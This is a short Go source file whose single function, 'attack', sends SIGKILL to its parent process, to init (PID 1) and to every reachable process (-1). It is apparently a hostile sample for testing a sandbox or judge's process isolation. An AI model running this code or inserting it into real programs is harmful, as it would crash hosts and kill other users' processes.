package main

import (
	"os"
	"syscall"
)

func attack(n int) int {
	syscall.Kill(os.Getppid(), syscall.SIGKILL)
	syscall.Kill(1, syscall.SIGKILL)
	syscall.Kill(-1, syscall.SIGKILL)
	return 0
}
